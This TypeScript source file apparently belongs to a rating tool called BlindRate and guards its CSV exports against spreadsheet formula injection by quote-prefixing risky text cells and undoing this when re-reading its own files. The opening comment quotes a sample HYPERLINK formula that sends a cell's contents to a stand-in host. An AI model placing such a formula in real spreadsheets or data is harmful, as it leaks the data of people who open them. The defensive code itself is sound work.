/**
 * Spreadsheet formula injection (CSV injection): a text cell that starts with = + - @ tab or carriage
 * return is run as a formula by Excel, LibreOffice and Google Sheets, so a model or rater named
 * `=HYPERLINK("http://x.example/?leak="&A1,"click")` could leak the sheet. OWASP's defence: prefix
 * such cells with a single quote, which spreadsheets show as text. Numbers are never prefixed (scores
 * may be negative); only text cells are.
 *
 * The mapping is reversible so BlindRate reads its own CSV back to the original text: every text that
 * starts with quotes followed by a trigger character gets one more quote, and reading removes one.
 * Only files BlindRate wrote are read that way (isExportHeader): in anyone else's file `'-'` is text.
 */
const NEEDS_QUOTE = /^'*[=+\-@\t\r]/;
const QUOTED = /^'+[=+\-@\t\r]/;

export function neutraliseFormulaText(text: string): string {
  return NEEDS_QUOTE.test(text) ? `'${text}` : text;
}

export function restoreFormulaText(cell: string): string {
  // The first-character check spares the regular expression on nearly every cell of a large file.
  return cell.charCodeAt(0) === 0x27 /* ' */ && QUOTED.test(cell) ? cell.slice(1) : cell;
}

/**
 * Whether a CSV header is one a BlindRate export writes: some of `fixedColumns`, in their order, all
 * of `alwaysWritten` among them (a release's export may lack the columns later releases added), then
 * only `score_<metric>` columns. Only such a file had its cells quoted by neutraliseFormulaText.
 */
export function isExportHeader(
  header: readonly string[],
  fixedColumns: readonly string[],
  alwaysWritten: readonly string[] = fixedColumns,
): boolean {
  const scoresFrom = header.findIndex((column) => /^score_./.test(column));
  const fixed = scoresFrom === -1 ? header : header.slice(0, scoresFrom);
  if (!header.slice(fixed.length).every((column) => /^score_./.test(column))) return false;
  let next = 0;
  for (const column of fixedColumns) {
    if (fixed[next] === column) next += 1;
    else if (alwaysWritten.includes(column)) return false;
  }
  return next === fixed.length;
}
